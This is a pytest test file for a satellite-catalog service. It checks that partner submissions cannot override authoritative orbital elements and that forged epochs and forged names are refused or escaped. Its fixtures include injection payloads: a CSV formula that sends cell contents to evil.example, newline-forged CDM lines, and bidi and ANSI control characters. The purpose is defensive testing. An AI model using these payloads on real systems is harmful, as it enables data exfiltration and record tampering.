"""Security of the catalog (issue #11, items 5 and 6), each test written as the attack and its
expected refusal, on SQLite and on PostgreSQL (``backend_url``).

The authoritative catalog is CelesTrak's Iridium 33 debris group of 2021-10-02 (the package's
sample, see src/spacecommons/data/sample/SOURCES.md), loaded as the node's operator loads it. The
service's clock is frozen at 2021-10-03T00:00Z, a day after those epochs. Partner B is an observer
of a hostile partner. The attack element sets are the sample's own elements with the epoch moved
(OMM JSON, CelesTrak's field names), so every number an assertion compares comes from the sample or
from the service's answer before the attack."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st

from spacecommons.catalog import read_elements
from spacecommons.catalog.trust import counts_for_latest
from spacecommons.service import create_app
from spacecommons.storage import partners_repo
from spacecommons.storage.catalog_repo import latest_elements, store_elements

from .conftest import DATA, SAMPLE
from .test_migrations import _insert
from .test_migrations import empty_url as _empty_url

empty_url = _empty_url  # the fixture: a new empty database per test on each backend

IRIDIUM = SAMPLE / "iridium-33-debris_celestrak_2021-10-02.txt"
NOW = datetime(2021, 10, 3, tzinfo=UTC)
SETS = read_elements(IRIDIUM).records
C = "/api/v1/catalog"


def omm(rec, epoch: datetime | None = None, **fields) -> dict:
    """``rec`` as a CelesTrak OMM JSON record, with its epoch and any field replaced."""
    out = dict(rec.fields)
    if epoch is not None:
        out["EPOCH"] = epoch.strftime("%Y-%m-%dT%H:%M:%S.%f")
    out.update(fields)
    return out


def latest_epoch(app, norad_id: int) -> str:
    with app.state.session_maker() as s:
        (rec,) = latest_elements(s, [norad_id])
    return rec.fields["EPOCH"]


@pytest.fixture(scope="module")
def node(backend_url):
    app = create_app(backend_url, clock=lambda: NOW, rate_per_second=1000.0, rate_burst=100000)
    keys = {}
    with app.state.session_maker.begin() as s:
        store_elements(s, SETS, NOW)  # authoritative, as `spacecommons catalog load` stores it
        for partner in ("A", "B"):
            partners_repo.create_partner(s, partner, NOW)
            for role in ("observer", "admin"):
                m = partners_repo.add_member(s, partner, role, role, NOW)
                keys[(partner, role)] = {"X-API-Key": partners_repo.issue_key(s, m.id, NOW)}
    yield app, TestClient(app), keys
    app.state.engine.dispose()


def submit(client, headers, records: list[dict], filename: str = "obs.json"):
    r = client.post(f"{C}/elements?filename={filename}", content=json.dumps(records), headers=headers)
    assert r.status_code == 201, r.text
    out = r.json()
    # re-screening jobs the submission queued (issue #18): none here, the partners own no runs
    assert out.pop("update_jobs") == [] and out.pop("updates_refused") == 0
    return out


def test_a_partner_cannot_move_an_object_it_does_not_own(node):
    """B submits Iridium 33 a day ahead with another mean anomaly: stored, with its provenance, as
    a partner set; the object's latest state, and the globe's position of it, stay the authoritative."""
    app, client, keys = node
    target = SETS[0]
    czml_before = client.get(f"{C}/czml?at=2021-10-02T12:00:00Z").json()
    forged = omm(target, NOW + timedelta(days=1), MEAN_ANOMALY="20.6048")
    assert submit(client, keys[("B", "observer")], [forged]) == {"added": 1, "unchanged": 0, "rejected": []}
    history = client.get(f"{C}/objects/{target.norad_id}/elements").json()
    assert [(h["trust"], h["source"].startswith("api:B/")) for h in history] == [
        ("authoritative", False),
        ("partner", True),
    ]
    assert latest_epoch(app, target.norad_id) == target.fields["EPOCH"]
    assert client.get(f"{C}/czml?at=2021-10-02T12:00:00Z").json() == czml_before


def test_the_2056_epoch_is_refused_naming_record_and_field_and_the_rest_lands(node):
    app, client, keys = node
    bad = omm(SETS[1], datetime(2056, 1, 1, tzinfo=UTC))
    good = omm(SETS[2], NOW - timedelta(hours=1))
    out = submit(client, keys[("B", "observer")], [bad, good], "x.json")
    assert out["added"] == 1 and len(out["rejected"]) == 1
    assert out["rejected"][0].startswith("api:B/observer/x.json:1: EPOCH: 2056-01-01T00:00:00.000000Z is ")
    assert "at most 3 days ahead" in out["rejected"][0]
    epochs = [h["epoch"] for h in client.get(f"{C}/objects/{SETS[1].norad_id}/elements").json()]
    assert not any(e.startswith("2056") for e in epochs)


def test_the_future_tolerance_is_three_days(node):
    app, client, keys = node
    inside = omm(SETS[3], NOW + timedelta(days=2, hours=23))
    outside = omm(SETS[4], NOW + timedelta(days=3, hours=1))
    out = submit(client, keys[("B", "observer")], [inside, outside], "edge.json")
    assert out["added"] == 1 and [r.split(": ")[1] for r in out["rejected"]] == ["EPOCH"]


def test_the_owner_s_sets_count_and_an_older_epoch_stays_history(node):
    app, client, keys = node
    target = SETS[5]
    newer = omm(target, NOW + timedelta(hours=12), MEAN_ANOMALY="1.0")
    submit(client, keys[("B", "observer")], [newer])
    assert latest_epoch(app, target.norad_id) == target.fields["EPOCH"]
    # only an admin assigns an object's owner: B's observer cannot claim it
    url = f"{C}/objects/{target.norad_id}/owner"
    assert client.put(url, json={"partner": "B"}, headers=keys[("B", "observer")]).status_code == 403
    assert client.put(url, json={"partner": "B"}, headers=keys[("A", "admin")]).status_code == 200
    assert latest_epoch(app, target.norad_id) == newer["EPOCH"]
    # the owner's own older set is history: it does not become latest
    older = omm(target, NOW - timedelta(days=5), MEAN_ANOMALY="2.0")
    assert submit(client, keys[("B", "observer")], [older])["added"] == 1
    assert latest_epoch(app, target.norad_id) == newer["EPOCH"]
    # another partner (A) gains nothing from B's ownership
    submit(client, keys[("A", "observer")], [omm(target, NOW + timedelta(days=1), MEAN_ANOMALY="3.0")])
    assert latest_epoch(app, target.norad_id) == newer["EPOCH"]
    assert client.put(url, json={"partner": None}, headers=keys[("A", "admin")]).status_code == 200
    assert latest_epoch(app, target.norad_id) == target.fields["EPOCH"]
    assert client.put(url, json={"partner": "nobody"}, headers=keys[("A", "admin")]).status_code == 404


def test_a_copied_set_does_not_block_the_authoritative_update(node):
    """B copies the source's next set and submits it before the node loads it. When the node's
    load brings the same set, it is authoritative and becomes latest (not 'unchanged' and ignored)."""
    app, client, keys = node
    target = SETS[6]
    nxt = omm(target, NOW - timedelta(hours=2), MEAN_ANOMALY="100.0")
    submit(client, keys[("B", "observer")], [nxt])
    assert latest_epoch(app, target.norad_id) == target.fields["EPOCH"]
    (authoritative,) = read_elements("celestrak.json", json.dumps([nxt])).records
    with app.state.session_maker.begin() as s:
        counts = store_elements(s, [authoritative], NOW)
    assert (counts.added, counts.unchanged) == (0, 1)
    assert latest_epoch(app, target.norad_id) == nxt["EPOCH"]
    trusts = [h["trust"] for h in client.get(f"{C}/objects/{target.norad_id}/elements").json()]
    assert trusts == ["authoritative", "authoritative"]


def test_an_omm_name_that_forges_a_kvn_line_is_refused_at_ingest(node):
    """Issue #11 item 6: OBJECT_NAME "...\\nMISS_DISTANCE = 0" would become a CDM line of its own."""
    app, client, keys = node
    forged = omm(SETS[7], OBJECT_NAME="SAT\nMISS_DISTANCE = 0")
    forged_id = omm(SETS[8], OBJECT_ID="1997-051\u202eC")  # a bidi override in a designator
    good = omm(SETS[9], NOW - timedelta(hours=3))
    out = submit(client, keys[("B", "observer")], [forged, forged_id, good], "names.json")
    assert out["added"] == 1
    assert out["rejected"] == [
        "api:B/observer/names.json:1: OBJECT_NAME: control character U+000A at position 3 is not allowed",
        "api:B/observer/names.json:2: OBJECT_ID: control character U+202E at position 8 is not allowed",
    ]
    names = {o["name"] for o in client.get(f"{C}/objects?limit=1000").json()}
    assert not any("\n" in n for n in names)


def test_the_cli_loader_refuses_control_characters_and_future_epochs(tmp_path, sqlite_url):
    """The node operator's loader (``spacecommons catalog load``) applies the same checks: each bad
    record is named (file, line, field), the good ones land, the exit code is 3."""
    from typer.testing import CliRunner

    from spacecommons.cli.main import app as cli
    from spacecommons.storage import make_engine, session_factory

    three_le = tmp_path / "evil.tle"
    first, second = SETS[0].original.splitlines(), SETS[1].original.splitlines()
    three_le.write_text("\n".join(["IRIDIUM 33\x1b[2J", *first[1:], *second]) + "\n")
    future = tmp_path / "future.json"
    future.write_text(json.dumps([omm(SETS[2], datetime.now(UTC) + timedelta(days=30))]))
    r = CliRunner(env={"COLUMNS": "240"}).invoke(
        cli, ["catalog", "load", str(three_le), str(future), "--database-url", sqlite_url]
    )
    assert r.exit_code == 3, r.output
    flat = " ".join(r.output.split())
    assert f"{three_le}:2: OBJECT_NAME: control character U+001B at position 10 is not allowed" in flat
    assert f"{future}:1: EPOCH:" in flat
    with session_factory(make_engine(sqlite_url))() as s:
        assert [e.norad_id for e in latest_elements(s)] == [SETS[1].norad_id]


def _cdm_text() -> str:
    return next((DATA / "cdm" / "cara_sample_cdms").glob("*")).read_text()


def _forge(cdm, name: str):
    from spacecommons.cdm import Item

    for section in cdm.objects:
        for i, item in enumerate(section):
            if item.key == "OBJECT_NAME":
                section[i] = Item(item.key, name, item.unit, item.line)
    return cdm


def test_the_kvn_writer_given_a_forged_name_writes_no_extra_line():
    """Defence in depth: a name that reached the store anyway (an older row, another path) is
    escaped by the writer; the CDM keeps its one MISS_DISTANCE, the one of the message."""
    from spacecommons.cdm import read_kvn, write_kvn

    original = read_kvn(_cdm_text(), validate=False)
    forged = write_kvn(_forge(read_kvn(_cdm_text(), validate=False), "SAT\nMISS_DISTANCE = 0\r\nCOMMENT x"))
    assert sum(line.startswith("MISS_DISTANCE") for line in forged.splitlines()) == 1
    assert len(forged.splitlines()) == len(write_kvn(original).splitlines())
    again = read_kvn(forged, validate=False)
    assert again.get("MISS_DISTANCE") == original.get("MISS_DISTANCE") is not None


@settings(max_examples=60, deadline=None)
@given(name=st.text(min_size=1, max_size=40))
def test_any_name_is_one_kvn_line(name):
    """Property: whatever text a name holds (control characters, markup, any Unicode), the written
    CDM has the same lines and keys as the message had."""
    from spacecommons.cdm import read_kvn, write_kvn

    plain = write_kvn(read_kvn(_cdm_text(), validate=False)).splitlines()
    out = write_kvn(_forge(read_kvn(_cdm_text(), validate=False), name)).splitlines()
    assert [line.split("=")[0] for line in out] == [line.split("=")[0] for line in plain]
    assert all(line.isascii() and line.isprintable() for line in out)


def test_events_csv_cells_cannot_start_a_formula_or_break_a_row(tmp_path):
    import csv

    from spacecommons.conjunction.events import ConjunctionEvent, ConjunctionEvents

    row = dict(
        id1=1,
        name1='=HYPERLINK("http://evil.example/?"&A1,"x")',
        id2=2,
        name2="DEB\nFAKE,ROW",
        tca="2021-10-02T00:00:00.000Z",
        miss_km=-0.5,  # numbers stay numbers (a minus sign is not a formula in a numeric cell)
        speed_km_s=1.0,
        r_km=0.0,
        t_km=0.0,
        n_km=0.0,
        kind="encounter",
        span_start="",
        span_end="",
        n_minima=1,
        tca_s=0.0,
    )
    path = tmp_path / "events.csv"
    ConjunctionEvents([ConjunctionEvent(**row)]).write(path)
    rows = list(csv.DictReader(path.open(newline="")))
    assert len(rows) == 1
    assert rows[0]["name1"].startswith("'=") and rows[0]["name2"] == "DEB?FAKE,ROW"
    assert rows[0]["miss_km"] == "-0.500000"


def test_trust_rule_as_a_function_and_as_the_query_agree(node):
    """``counts_for_latest`` (the rule) and ``latest_elements`` (its query) on every stored set."""
    from sqlalchemy import select

    from spacecommons.storage.tables import ElementSetRow, SpaceObject

    app, *_ = node
    with app.state.session_maker() as s:
        rows = s.execute(select(ElementSetRow, SpaceObject.owner_partner_id).join(SpaceObject)).all()
        latest = {(e.norad_id, e.digest) for e in latest_elements(s)}
    best: dict[int, tuple[float, str]] = {}
    for row, owner in rows:
        if counts_for_latest(row.trust, row.partner_id, owner):
            t = row.epoch_jd + row.epoch_fr
            if row.norad_id not in best or t > best[row.norad_id][0]:
                best[row.norad_id] = (t, row.digest)
    assert latest == {(n, d) for n, (_, d) in best.items()}


def test_migration_0010_marks_api_submissions_as_partner_sets(empty_url):
    """Rows stored before 0010: the submission route wrote ``api:<partner>/<member>/<file>`` as the
    source (service/catalog_routes.py before 0010); the CLI wrote the file's path. After the upgrade
    the former are partner sets of that partner (the longest name that prefixes the source), the
    latter authoritative; so the old submissions stop counting as latest (no object has an owner)."""
    import sqlalchemy as sa

    from spacecommons.storage import make_engine, session_factory, upgrade

    engine = make_engine(empty_url)
    upgrade(engine, "0009")
    with engine.begin() as c:
        for pid, name in ((1, "B"), (2, "B/ops"), (3, "50%_x")):
            _insert(c, "partners", id=pid, name=name, created_at=NOW)
        for rec in SETS[:5]:
            _insert(c, "space_objects", norad_id=rec.norad_id, name=rec.name, object_id=rec.object_id)
        sources = ["/data/gp.tle", "api:B/obs/x.tle", "api:B/ops/m/y.tle", "api:50%_x/m/z.tle", "api:Gone/m/w.tle"]
        for i, (rec, source) in enumerate(zip(SETS[:5], sources, strict=True), start=1):
            _insert(
                c,
                "element_sets",
                id=i,
                norad_id=rec.norad_id,
                epoch=rec.fields["EPOCH"],
                epoch_jd=rec.epoch_jd,
                epoch_fr=rec.epoch_fr,
                digest=rec.digest,
                format="tle",
                source=source,
                source_line=2,
                fields_json=json.dumps(rec.fields),
                original=rec.original,
                loaded_at=NOW,
            )
    upgrade(engine)
    with engine.connect() as c:
        got = c.execute(sa.text("SELECT id, trust, partner_id FROM element_sets ORDER BY id")).all()
    assert [tuple(r) for r in got] == [
        (1, "authoritative", None),
        (2, "partner", 1),
        (3, "partner", 2),
        (4, "partner", 3),
        (5, "partner", None),
    ]
    with session_factory(engine)() as s:
        assert [e.norad_id for e in latest_elements(s)] == [SETS[0].norad_id]
    engine.dispose()
